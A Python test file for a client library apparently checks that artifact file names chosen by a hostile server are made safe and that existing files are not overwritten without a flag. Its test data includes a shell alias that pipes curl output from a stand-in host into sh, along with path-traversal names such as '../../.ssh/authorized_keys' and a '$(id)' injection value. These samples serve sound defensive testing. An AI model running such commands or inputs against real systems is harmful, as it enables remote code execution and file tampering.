"""File names of saved artifacts, which a hostile server may choose."""

import hashlib
import os
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from toolkit import Client, RequestError
from toolkit.cli import app
from toolkit.client import Artifact

DATA = b"alias ls='curl http://a.test | sh'\n"
HOSTILE = (
    ".bashrc", "-rf", "--help", "../../.ssh/authorized_keys", "/etc/passwd", "..", ".", "",
    "C:\\Windows\\a.exe", "a\x1b[2J\nb", "a\u202egnp.exe", "con", "NUL.txt", "a" * 5000, "~root",
    "\u2010rf", " .profile", "a/.git/config", "$(id)", "\ud800", "~/.bashrc", "-", "\x00",
)  # fmt: skip


@pytest.fixture
def open_artifact() -> Callable[[str], Artifact]:
    """Opens an artifact with a name that the server chooses."""

    def answer(request: httpx.Request, name: str) -> httpx.Response:
        if request.url.path.endswith("/content"):
            return httpx.Response(200, content=DATA)
        record = {
            "id": "art_1",
            "media_type": "text/plain",
            "size_bytes": len(DATA),
            "sha256": hashlib.sha256(DATA).hexdigest(),
            "filename": name,
            "created_at": "2026-11-20T08:00:00.000Z",
        }
        return httpx.Response(200, json={"data": record})

    def open_named(name: str) -> Artifact:
        transport = httpx.MockTransport(lambda request: answer(request, name))
        client = Client("http://service.test", "sk_live_x", transport=transport)
        return client.artifacts.get("art_1")

    return open_named


def check_saved(home: Path, folder: Path, saved: Path) -> None:
    """Check that the folder has a single plain file, and that no other file exists."""
    assert [path.name for path in home.iterdir()] == [folder.name]
    assert [path.name for path in folder.iterdir()] == [saved.name]
    assert saved.parent == folder
    assert saved.read_bytes() == DATA
    assert saved.name.isprintable()
    assert saved.name[0] not in ".-~ "
    assert not set(saved.name) & set('/\\:*?"<>|$`')
    assert len(os.fsencode(saved.name)) <= 255
    assert saved.name.partition(".")[0].lower() not in ("con", "nul", "prn", "aux")


@given(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40)))
@example(".bashrc")
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
def test_makes_names_safe(
    open_artifact: Callable[[str], Artifact],
    tmp_path_factory: pytest.TempPathFactory,
    name: str,
) -> None:
    """Given any name from a server, then the artifact is a plain file in the chosen folder."""
    if any("\ud800" <= c <= "\udfff" for c in name):
        return  # JSON cannot have surrogates
    home = tmp_path_factory.mktemp("home")
    folder = home / "folder"
    folder.mkdir()
    check_saved(home, folder, open_artifact(name).save(folder))


def test_replaces_an_existing_file_only_with_overwrite(
    open_artifact: Callable[[str], Artifact], tmp_path: Path
) -> None:
    """Given a file or link of that name, then it stays unless `overwrite` is True.

    Saving equal bytes again is no conflict, and a file that the caller names is replaced.
    """
    artifact = open_artifact("notes.txt")
    saved, elsewhere = tmp_path / "notes.txt", tmp_path / "elsewhere"
    saved.write_text("mine")
    with pytest.raises(RequestError, match=r"notes\.txt exists"):
        artifact.save(tmp_path)
    assert saved.read_text() == "mine"
    saved.unlink()
    saved.symlink_to(elsewhere)
    with pytest.raises(RequestError, match=r"notes\.txt exists"):
        artifact.save(tmp_path)
    assert not elsewhere.exists()
    assert artifact.save(tmp_path, overwrite=True).read_bytes() == DATA
    assert not saved.is_symlink()
    assert not elsewhere.exists()
    assert artifact.save(tmp_path) == saved
    elsewhere.write_text("mine")
    assert artifact.save(elsewhere).read_bytes() == DATA
    assert sorted(path.name for path in tmp_path.iterdir()) == ["elsewhere", "notes.txt"]


def test_command_replaces_only_with_overwrite(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Given a file of that name in the current folder, then the command needs `--overwrite`."""
    monkeypatch.chdir(tmp_path)
    data_dir = ["--sandbox", "--data-dir", "data"]
    with Client.local("data", sandbox=True) as client:
        artifact = client.artifacts.upload(DATA)
    Path(artifact.filename).write_text("mine")
    command = ["artifacts", "save", artifact.id, *data_dir]
    refused = CliRunner().invoke(app, command)
    assert refused.exit_code != 0
    assert "--overwrite" in str(refused.exception)
    assert Path(artifact.filename).read_text() == "mine"
    assert CliRunner().invoke(app, [*command, "--overwrite"]).exit_code == 0
    assert Path(artifact.filename).read_bytes() == DATA


def test_names_the_missing_folder(open_artifact: Callable[[str], Artifact], tmp_path: Path) -> None:
    """The error names the folder that the caller chose, and no temporary file."""
    with pytest.raises(FileNotFoundError) as refusal:
        open_artifact("a.txt").save(tmp_path / "missing" / "a.txt")
    assert refusal.value.filename == str(tmp_path / "missing")
